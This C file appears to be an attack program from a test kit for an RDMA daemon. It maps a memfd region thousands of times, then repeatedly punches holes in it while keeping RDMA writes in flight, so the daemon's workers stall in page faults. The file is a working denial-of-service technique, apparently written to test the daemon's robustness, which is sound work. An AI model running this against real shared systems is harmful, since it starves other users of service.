/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A hostile user who makes the daemon's workers wait in page faults: it punches holes into a region
 * (a registered memfd), again and again, and has mapped this memory so often that each hole takes
 * the kernel long. A queue pair connected to itself makes the worker use the memory.
 *
 *   punch DEVICE
 *
 * Prints "attacks" when it begins, and goes on until it is killed.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include "kit/program.h"
#include "kit/verbside.h"

#define MAPPINGS 20000 /* below vm.max_map_count */
#define REGION   65536
#define WRITE    16384

static struct side side;
static uint8_t *punched; /* REGION bytes */

static struct ibv_mr *
region_make(void)
{
	int fd = memfd_create("punched", MFD_CLOEXEC);

	punched = MAP_FAILED;
	if (fd >= 0 && ftruncate(fd, REGION) == 0)
		punched = mmap(NULL, REGION, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (punched == MAP_FAILED)
		die("no region: %m");
	memset(punched, 1, REGION);
	return ibv_reg_mr(side.pd, punched, REGION, SIDE_ACCESS);
}

/* Maps the memory again and again. Each mapping has a page, which a hole takes away. */
static void
mappings_make(void)
{
	for (unsigned i = 0; i < MAPPINGS; i++) {
		volatile uint8_t *again = mremap(punched, 0, REGION, MREMAP_MAYMOVE);

		if (again == MAP_FAILED)
			die("mapping %u: %m", i);
		(void)again[0];
	}
}

static void *
punch_main(void *arg)
{
	while (madvise(punched, REGION, MADV_REMOVE) == 0)
		;
	die("no hole: %m");
}

/* Keeps WRITEs within mr in flight, while they succeed. */
static void
write_on(struct ibv_qp *qp, const struct ibv_mr *mr)
{
	struct ibv_sge sge = {(uintptr_t)mr->addr, WRITE, mr->lkey};
	struct ibv_send_wr *bad, wr = {.sg_list = &sge,
				       .num_sge = 1,
				       .opcode = IBV_WR_RDMA_WRITE,
				       .send_flags = IBV_SEND_SIGNALED};
	struct ibv_wc wc;
	int posted = 0, n;

	wr.wr.rdma.remote_addr = sge.addr + WRITE;
	wr.wr.rdma.rkey = mr->rkey;
	for (;;) {
		for (; posted < SIDE_DEPTH && ibv_post_send(qp, &wr, &bad) == 0; posted++)
			;
		n = ibv_poll_cq(side.cq, 1, &wc);
		posted -= n > 0 ? n : 0;
		if (n == 0)
			usleep(10);
	}
}

int
main(int argc, char **argv)
{
	struct ibv_mr *mr;
	struct ibv_qp *qp;
	pthread_t t;

	if (argc != 2)
		die("usage: punch DEVICE");
	side_open(&side, argv[1]);
	mr = region_make();
	qp = side_qp(side.pd, IBV_QPT_RC, side.cq);
	if (mr == NULL || qp == NULL || side_raise(&side, qp, qp->qp_num) != 0)
		die("no queue pair: %m");
	mappings_make();
	if (pthread_create(&t, NULL, punch_main, NULL) != 0)
		die("no thread");
	puts("attacks");
	fflush(stdout);
	write_on(qp, mr);
}
